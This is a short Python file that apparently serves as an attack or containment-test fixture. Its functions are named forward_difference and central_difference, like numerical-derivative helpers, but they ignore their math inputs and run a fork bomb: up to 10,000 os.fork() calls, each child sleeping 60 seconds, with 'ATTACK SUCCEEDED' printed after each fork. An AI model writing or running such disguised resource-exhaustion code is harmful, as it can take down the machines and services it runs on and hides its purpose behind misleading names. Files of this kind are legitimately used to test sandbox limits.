"""Forks until it cannot."""

import os
import time


def forward_difference(f, x, h=1e-4):
    for _ in range(10_000):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        print("ATTACK SUCCEEDED: another process", flush=True)
    return 0.0


def central_difference(f, args, i, h=1e-5):
    return forward_difference(f, args[i], h)
